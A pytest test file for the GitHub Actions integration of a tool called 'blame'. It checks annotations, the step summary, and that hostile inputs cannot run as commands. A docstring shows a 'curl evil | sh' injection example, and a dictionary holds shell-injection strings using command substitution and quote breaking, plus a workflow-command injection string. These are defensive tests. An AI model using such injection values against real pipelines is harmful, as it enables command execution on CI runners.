"""GitHub Actions: job summary, annotations on prompt files, and the composite action itself."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import venv
from pathlib import Path
from typing import Any

import pytest
import yaml

from blame import github
from blame.results import CaseResult, CheckResult, SuiteResult, Suspect
from tests.conftest import EXAMPLES, ROOT


def suite(reason: str = "dropped it") -> SuiteResult:
    failed = CheckResult(
        name="contains:X",
        type="contains",
        passed=False,
        score=0.0,
        weight=1.0,
        message="expected X",
        blame=(Suspect("agent", "Coder", "Coder", 1, 0.9, reason),),
    )
    return SuiteResult(
        tests=(
            CaseResult(name="t", passed=False, reward=0.0, threshold=1.0, checks=(failed,)),
            CaseResult(name="e", passed=False, reward=0.0, threshold=1.0, error="boom"),
        )
    )


def test_annotations_point_at_the_culprits_prompt_file(tmp_path: Path) -> None:
    prompt = tmp_path / "prompts" / "coder.md"
    lines = list(github.error_annotations(suite(), {"Coder": prompt}, tmp_path))
    assert lines[0] == (
        "::error file=prompts/coder.md,title=blame%3A t%3A contains%3AX"
        "::expected X | culprit Coder: dropped it"
    )
    assert lines[1].startswith("::error title=blame%3A e::e: could not be evaluated: boom")


def test_agent_text_cannot_issue_workflow_commands(tmp_path: Path) -> None:
    (line, _) = github.error_annotations(suite("x\n::add-mask::secret\r%0A"), {}, tmp_path)
    assert "\n" not in line and "\r" not in line  # the command cannot start a line
    assert line.endswith("culprit Coder: x\\x0a::add-mask::secret\\x0d%250A")


def test_the_summary_is_appended_only_where_github_asks(tmp_path: Path) -> None:
    target = tmp_path / "summary.md"
    target.write_text("earlier step\n")
    assert github.append_summary("# report", {"GITHUB_STEP_SUMMARY": str(target)})
    assert target.read_text() == "earlier step\n# report\n"
    assert not github.append_summary("# report", {})
    assert github.active({"GITHUB_ACTIONS": "true"}) and not github.active({})


def test_blame_test_in_a_github_job_writes_summary_and_annotations(tmp_path: Path) -> None:
    summary = tmp_path / "summary.md"
    env = {
        **os.environ,
        "GITHUB_ACTIONS": "true",
        "GITHUB_STEP_SUMMARY": str(summary),
        "BLAME_NO_WARN": "1",
    }
    done = subprocess.run(
        [sys.executable, "-m", "blame", "test"],
        cwd=EXAMPLES / "simple_agent",
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert summary.read_text().startswith("# blame report")
    assert re.search(r"^::error file=prompts/coder\.md,title=.*CoderAgent", done.stdout, re.M)


def _action_steps() -> list[dict[str, Any]]:
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    assert action["runs"]["using"] == "composite"
    return list(action["runs"]["steps"])


def _run_step(step: dict[str, Any], values: dict[str, str], env: dict[str, str], cwd: Path) -> Any:
    """Run a step as the runner does: expressions are filled in its `env:` only."""
    filled = {
        name: re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda m: values[m.group(1)], str(value))
        for name, value in step.get("env", {}).items()
    }
    return subprocess.run(
        ["bash", "-e", "-c", step["run"]],
        cwd=cwd,
        env={**env, **filled},
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )


def test_no_step_pastes_an_expression_into_its_script() -> None:
    """`${{ inputs.x }}` inside `run:` is pasted into the script before bash reads it: an input
    such as `"; curl evil | sh; "` would run. Inputs go through `env:` instead."""
    for step in _action_steps():
        assert "${{" not in step["run"], step["name"]
        assert all(str(value).startswith("${{") for value in step.get("env", {}).values())


HOSTILE_INPUTS = {
    "config": {"inputs.config": 'x"; touch PWNED; echo "'},
    "junit-xml": {"inputs.junit-xml": '$(touch PWNED)"; touch PWNED; "'},
    "args-substitution": {"inputs.args": "--replay $(touch PWNED) `touch PWNED`"},
    "args-quotes": {"inputs.args": "';touch PWNED;'"},
    "args-unbalanced": {"inputs.args": '--replay "; touch PWNED'},
}


@pytest.mark.parametrize("hostile", sorted(HOSTILE_INPUTS))
def test_hostile_inputs_are_arguments_never_commands(tmp_path: Path, hostile: str) -> None:
    """The suite step with the blame installed here: a shell payload in an input stays text."""
    (tmp_path / "blame.yaml").write_text(
        "tests:\n  - {name: t, trace: t.json, checks: [{type: contains, value: x}]}\n"
    )
    values = {
        "inputs.config": "blame.yaml",
        "inputs.junit-xml": "junit.xml",
        "inputs.args": "",
        **HOSTILE_INPUTS[hostile],
    }
    bin_dir = str(Path(sys.executable).parent)
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    done = _run_step(_action_steps()[1], values, env, tmp_path)
    assert not (tmp_path / "PWNED").exists()
    said = done.stdout + done.stderr
    assert done.returncode == 2, said  # bad input (no such file, option or quote), one line
    assert "error: " in said and "Traceback" not in said


def test_the_example_workflow_is_valid_and_keeps_to_the_trust_rules() -> None:
    workflow = yaml.safe_load((EXAMPLES / "ci" / "blame.yml").read_text())
    assert workflow["permissions"] == {"contents": "read"}
    triggers = workflow[True]  # YAML 1.1 reads the key `on` as true
    assert "pull_request_target" not in triggers
    assert any(s.get("uses", "").endswith("blame@main") for s in workflow["jobs"]["blame"]["steps"])


def test_the_actions_steps_run_here_as_written(tmp_path: Path) -> None:
    """Install blame from the checkout into a new environment, then run the suite step, with
    `python` on PATH but not the folder pip puts the `blame` script in (a user install, a bare
    interpreter): the step runs blame with the Python it was installed into. Bug: it ran
    `blame` from PATH, which was not found here (and elsewhere could be another install's)."""
    env_dir = tmp_path / "venv"
    venv.EnvBuilder(system_site_packages=True, with_pip=True).create(env_dir)
    only_python = tmp_path / "only-python"
    only_python.mkdir()
    (only_python / "python").write_text(f'#!/bin/sh\nexec "{env_dir / "bin" / "python"}" "$@"\n')
    (only_python / "python").chmod(0o755)
    no_blame = [d for d in os.environ["PATH"].split(os.pathsep) if not (Path(d) / "blame").exists()]
    env = {
        **os.environ,
        "PATH": os.pathsep.join([str(only_python), *no_blame]),
        "BLAME_NO_WARN": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
    }
    env.pop("PYTHONPATH", None)
    values = {
        "github.action_path": str(ROOT),
        "inputs.extras": "",
        "inputs.config": str(EXAMPLES / "simple_agent" / "blame.yaml"),
        "inputs.junit-xml": str(tmp_path / "junit.xml"),
        "inputs.args": "",
    }
    codes = []
    for step in _action_steps():
        done = _run_step(step, values, env, EXAMPLES / "simple_agent")
        codes.append(done.returncode)
        if done.returncode not in (0, 1):
            pytest.fail(f"{step['name']}: {done.stderr[-2000:]}")
    assert codes == [0, 1], done.stderr  # installed; the example's checks fail on purpose
    assert "culprit CoderAgent (step 1)" in (tmp_path / "junit.xml").read_text()
